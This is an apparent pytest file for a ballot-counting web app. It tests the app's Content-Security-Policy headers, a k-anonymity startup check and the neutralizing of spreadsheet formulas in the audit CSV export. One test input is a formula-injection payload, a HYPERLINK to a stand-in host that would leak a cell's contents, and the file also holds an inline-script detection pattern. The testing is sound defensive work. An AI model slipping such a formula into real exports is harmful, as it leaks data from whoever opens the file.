"""Console pages carry a Content-Security-Policy and no inline script; K below 3 is refused at start;
the audit CSV keeps raters' comments from being formulas, and still recounts to the published digest."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from pydantic import ValidationError

from app import recount
from app.cli import main
from app.db import Database
from app.settings import Settings
from tests.conftest import ALL_A, TEST_SECRET, mint, open_meeting
from tests.test_access import sign_in
from tests.test_console import make_user

CONSOLE_CSP = (
    "default-src 'self'; img-src 'self' data:; style-src 'self'; script-src 'self'; connect-src 'self'; "
    "form-action 'self'; frame-ancestors 'none'; base-uri 'none'; object-src 'none'"
)
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>|\son[a-z]+\s*=|javascript:", re.IGNORECASE)


def test_every_console_page_sends_a_csp_and_holds_no_inline_script(client: TestClient, auth: dict[str, str],
                                                                   database: Database) -> None:
    make_user(database)
    meeting = open_meeting(client, auth)["id"]
    for code in mint(client, auth, meeting, 5):  # a meeting closes with K ballots
        assert client.post("/api/v1/ballots", json={"token": code, "answers": ALL_A, "comment": "好"}).status_code == 201
    anonymous = client.get("/login")
    assert anonymous.headers["content-security-policy"] == CONSOLE_CSP
    sign_in(client, "wang")
    pages = ["/login?next=/units", "/meetings", f"/meetings/{meeting}", f"/meetings/{meeting}/live",
             f"/meetings/{meeting}/projector", "/units", "/units/new", "/units/import", "/meetings/new", "/overview",
             "/ballot-templates", "/ballot-templates/default", "/accounts", "/api-keys", "/audit", "/account/password",
             "/meetings/999"]
    assert client.post(f"/api/v1/meetings/{meeting}/close", headers=auth).status_code == 200
    pages.append(f"/meetings/{meeting}/report")
    for path in pages:
        r = client.get(path)
        assert r.status_code in (200, 404), (path, r.status_code)
        assert r.headers["content-security-policy"] == CONSOLE_CSP, path
        assert INLINE_SCRIPT.findall(r.text) == [], path


@pytest.mark.parametrize(("k", "refused"), [(0, True), (1, True), (2, True), (3, False), (5, False)])
def test_k_anonymity_below_3_is_refused_at_start(k: int, refused: bool, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    if refused:
        with pytest.raises(ValidationError, match="ONSITE_BALLOT_K_ANONYMITY must be at least 3"):
            Settings(data_dir=tmp_path, secret_key=TEST_SECRET, k_anonymity=k)  # type: ignore[arg-type]
        monkeypatch.setenv("ONSITE_BALLOT_K_ANONYMITY", str(k))
        monkeypatch.setenv("ONSITE_BALLOT_DATA_DIR", str(tmp_path))
        assert main(["serve"]) == 2
        assert capsys.readouterr().err == (
            "设置有误，服务拒绝启动 · the settings are wrong, so the service will not start:\n"
            "  k_anonymity: ONSITE_BALLOT_K_ANONYMITY must be at least 3: below that, a breakdown or a step of"
            " the live tally can single out a ballot\n")
        assert not (tmp_path / "onsite-ballot.db").exists()
    else:
        assert Settings(data_dir=tmp_path, secret_key=TEST_SECRET, k_anonymity=k).k_anonymity == k  # type: ignore[arg-type]


# (A comment is stored without the spaces around it, so none starts with a tab or a line break.)
FORMULA_COMMENTS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+86 138", "-5分也不为过", "@SUM(A1)",
                    "'已带单引号", "普通意见\t=1"]


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("'x", "''x"), ("''", "'''"), ("x=1", "x=1"), ("", ""), ("A", "A")],
)
def test_audit_cells_are_written_as_text_and_read_back_unchanged(cell: str, written: str) -> None:
    assert recount._as_text(cell) == written
    assert recount._from_text(written) == cell


def test_the_audit_csv_neutralizes_formulas_and_recounts_to_the_digest(
    client: TestClient, auth: dict[str, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    meeting = open_meeting(client, auth)["id"]
    for code, comment in zip(mint(client, auth, meeting, len(FORMULA_COMMENTS)), FORMULA_COMMENTS, strict=True):
        r = client.post("/api/v1/ballots", json={"token": code, "answers": ALL_A, "comment": comment})
        assert r.status_code == 201, r.text
    assert client.post(f"/api/v1/meetings/{meeting}/close", headers=auth).status_code == 200
    digest = client.get(f"/api/v1/meetings/{meeting}/result", headers=auth).json()["digest"]
    r = client.get(f"/api/v1/meetings/{meeting}/audit?format=csv", headers=auth)
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = sorted(row[1] for row in rows[2:])
    assert cells == sorted(['\'=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "'+86 138", "'-5分也不为过",
                            "'@SUM(A1)", "''已带单引号", "普通意见\t=1"])
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[2:] for cell in row)
    path = tmp_path / "audit.csv"
    path.write_bytes(r.content)
    # The file reads back to the very comments that were cast: the digest is theirs, not the CSV's text.
    assert sorted(b.comment or "" for b in recount.parse_audit(r.content).ballots) == sorted(FORMULA_COMMENTS)
    assert main(["recount", str(path), "--digest", digest]) == 0
    assert "the recount reproduces the published result exactly" in capsys.readouterr().out
